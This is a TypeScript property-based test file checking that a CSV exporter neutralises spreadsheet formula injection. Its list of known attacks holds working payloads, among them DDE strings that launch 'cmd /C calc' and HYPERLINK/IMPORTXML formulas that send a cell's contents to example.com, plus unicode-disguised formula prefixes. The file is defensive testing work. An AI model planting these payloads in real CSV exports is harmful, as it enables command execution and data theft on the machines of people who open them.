import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { checkLaw } from '#tests/support/laws/check-law.ts';
import { readCsvText, toCsv } from './csv.ts';

/** Cells that have run as formulas in spreadsheets, or slipped past guards of other programs. */
const KNOWN_ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   +1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u2060\u200D@A1',
  '\uFEFF=1+1',
  '\u00AD=1+1',
  '\u034F-1',
  '\uFE0F=1',
  '\u202E=1+1',
  '\u2800=1+1',
  '\u22121+1',
  ' \u2800\u2212cmd',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  "'=1+1",
  "''=1+1",
  "'",
  "''",
  "' =1",
  "'Tis the season",
  '"=1+1"',
  '"",=1+1',
  'a","=1+1',
  'Pea\r\n=1+1',
  'Pea\n"=1+1"',
  'Pea;=1+1',
  'Pea\t=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"Seed")',
  '=IMPORTXML(CONCAT("http://example.com?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  '+49 170 1234567',
  '-3',
  '',
  ' ',
  'null',
] as const;

const HOSTILE_SIGNS = Array.from("='+-@\"',;\t\r\n\0 \u00A0\u200B\uFEFF\u2060＝＋－＠﹦aé1");

/** Runs of the signs that matter, and anything else. */
const hostileCell = fc.oneof(
  fc.constantFrom(...KNOWN_ATTACKS),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.array(fc.constantFrom(...HOSTILE_SIGNS), { maxLength: 12 }).map((signs) => signs.join('')),
);
const hostileRow = fc.array(hostileCell, { minLength: 4, maxLength: 4 });

/** As a spreadsheet sees it: signs that nobody sees do not count, wide forms are plain ones. */
function opensAsFormula(cell: string): boolean {
  const seen = cell
    .normalize('NFKC')
    .replaceAll(/[\s\p{Z}\p{C}\p{Default_Ignorable_Code_Point}]/gu, '');
  return /^[=+\-@]/.test(seen) || /^[\t\r\n\0]/.test(cell);
}

function read(csv: string): string[][] {
  const rows = Papa.parse<string[]>(csv, { delimiter: ',' }).data;
  // The end of the last row is read as one more row.
  return rows.slice(0, -1);
}

test('of 10,000 hostile cells none opens as a formula, and none loses a sign', () => {
  checkLaw([fc.array(hostileRow, { minLength: 5, maxLength: 5 })], { numRuns: 500 }, (rows) => {
    const cells = read(toCsv(rows));
    expect(cells.flat().filter(opensAsFormula)).toEqual([]);
    expect(cells.map((row) => row.map(readCsvText))).toEqual(rows);
  });
});

test.each(KNOWN_ATTACKS)('%j stays a text and comes back as it was', (attack) => {
  const [cells = []] = read(toCsv([['Pea', attack, 'end']]));
  expect(cells.map(readCsvText)).toEqual(['Pea', attack, 'end']);
  expect(opensAsFormula(cells[1] ?? '')).toBe(false);
});

test('a cell is guarded once more, however many quotes it begins with', () => {
  expect(toCsv([["'=1", "''=1", "'Tis", "''"]])).toBe("''=1,'''=1,'Tis,''\r\n");
});

test('numbers below zero stay numbers, what is no number at all becomes a text', () => {
  expect(toCsv([[-3, -0.5, 1e-7, -Infinity]])).toBe("-3,-0.5,1e-7,'-Infinity\r\n");
});

test('a text from another program keeps a quote of its own', () => {
  expect(readCsvText("'Tis the season")).toBe("'Tis the season");
  expect(readCsvText('=1+1')).toBe('=1+1');
});
